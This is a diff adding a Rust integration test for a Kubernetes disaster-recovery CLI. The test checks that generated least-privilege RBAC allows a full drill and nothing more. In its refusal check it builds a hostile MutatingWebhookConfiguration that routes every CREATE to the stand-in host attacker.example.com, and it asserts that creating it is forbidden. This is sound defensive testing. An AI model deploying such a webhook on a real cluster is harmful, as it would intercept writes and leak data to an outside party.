@@ -81,3 +81,140 @@ async fn no_drill_step_touches_kube_system() {
         assert_eq!(writes, 0, "nothing written");
     }
 }
+
+fn run(args: &[&str]) -> (i32, String, String) {
+    let out = Command::new(BIN).args(args).output().unwrap();
+    (
+        out.status.code().unwrap_or(-1),
+        String::from_utf8_lossy(&out.stdout).into_owned(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+/// The DR identity holds exactly what `dr-syncer-cli rbac --destination` grants (and the source identity
+/// what `--source` grants): a full drill (stage, cutover, failback with --sync-back) works with it, and
+/// the identity cannot create a MutatingWebhookConfiguration (which would intercept every write in the
+/// DR cluster) nor read the DR cluster's kube-system Secrets.
+#[tokio::test]
+async fn generated_remote_rbac_is_enough_for_a_drill_and_no_more() {
+    use dr_syncer_testenv::{apply_yaml, create_namespace};
+    use k8s_openapi::api::{
+        admissionregistration::v1::MutatingWebhookConfiguration, apps::v1::Deployment, core::v1::Secret,
+    };
+    use kube::{Api, api::PostParams};
+
+    init_tracing();
+    let (src, dst) = tokio::join!(
+        ControlPlane::builder("cli-rbac-prod").rbac(true).start(),
+        ControlPlane::builder("cli-rbac-dr").rbac(true).start(),
+    );
+    let (src, dst) = (src.unwrap(), dst.unwrap());
+    let ns = create_namespace(&src.client(), "shop").await.unwrap();
+    apply_yaml(
+        &src.client(),
+        Some(&ns),
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {v: '1'}\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: creds}\nstringData: {p: x}\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  replicas: 2\n  selector: {matchLabels: {app: web}}\n  template:\n    metadata: {labels: {app: web}}\n    spec: {containers: [{name: web, image: nginx}]}\n",
+    )
+    .await
+    .unwrap();
+    let reader = src.identity_in_groups("drs-reader", &[]).await.unwrap();
+    let writer = dst.identity_in_groups("drs-writer", &[]).await.unwrap();
+    let types = "configmaps,secrets,deployments";
+    // Without the roles, nothing works (the enforcement is real).
+    let (r, w) = (
+        reader.kubeconfig.to_str().unwrap(),
+        writer.kubeconfig.to_str().unwrap(),
+    );
+    let drill = |step: &[&str]| {
+        let mut args = vec![
+            "--source-kubeconfig",
+            r,
+            "--dest-kubeconfig",
+            w,
+            "--source-namespace",
+            &ns,
+            "--resource-types",
+            types,
+            "--yes",
+        ];
+        args.extend_from_slice(step);
+        run(&args)
+    };
+    assert_ne!(drill(&["stage"]).0, 0, "refused without the roles");
+
+    let (code, source_rbac, err) = run(&[
+        "rbac",
+        "--source",
+        "--sync-back",
+        "--namespace",
+        &ns,
+        "--resource-types",
+        types,
+        "--bind-user",
+        "drs-reader",
+    ]);
+    assert_eq!(code, 0, "{err}");
+    // Namespace scope on the DR side: the DR namespace exists before its Role can (the admin creates it).
+    let (code, dest_rbac, err) = run(&[
+        "rbac",
+        "--destination",
+        "--namespace",
+        &ns,
+        "--resource-types",
+        types,
+        "--bind-user",
+        "drs-writer",
+    ]);
+    assert_eq!(code, 0, "{err}");
+    for yaml in [&source_rbac, &dest_rbac] {
+        assert!(!yaml.contains('*'), "no wildcards: {yaml}");
+    }
+    apply_yaml(&src.client(), None, &source_rbac).await.unwrap();
+    apply_yaml(
+        &dst.client(),
+        None,
+        &format!("apiVersion: v1\nkind: Namespace\nmetadata: {{name: {ns}}}\n"),
+    )
+    .await
+    .unwrap();
+    apply_yaml(&dst.client(), None, &dest_rbac).await.unwrap();
+
+    for step in [&["stage"][..], &["cutover"][..], &["failback", "--sync-back"][..]] {
+        let (code, out, err) = drill(step);
+        assert_eq!(code, 0, "{step:?}\nstdout:\n{out}\nstderr:\n{err}");
+    }
+    let web = Api::<Deployment>::namespaced(src.client(), &ns)
+        .get("web")
+        .await
+        .unwrap();
+    assert_eq!(
+        web.spec.unwrap().replicas,
+        Some(2),
+        "production runs again after the failback"
+    );
+
+    // And no more than that.
+    let webhook: MutatingWebhookConfiguration = serde_json::from_value(serde_json::json!({
+        "metadata": {"name": "intercept"},
+        "webhooks": [{
+            "name": "intercept.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
+            "clientConfig": {"url": "https://attacker.example.com/"},
+            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["*"]}]
+        }]
+    }))
+    .unwrap();
+    let refused = Api::<MutatingWebhookConfiguration>::all(writer.client.clone())
+        .create(&PostParams::default(), &webhook)
+        .await;
+    assert!(
+        matches!(&refused, Err(kube::Error::Api(s)) if s.code == 403),
+        "{refused:?}"
+    );
+    let secrets = Api::<Secret>::namespaced(writer.client.clone(), "kube-system")
+        .list(&Default::default())
+        .await;
+    assert!(
+        matches!(&secrets, Err(kube::Error::Api(s)) if s.code == 403),
+        "{secrets:?}"
+    );
+}
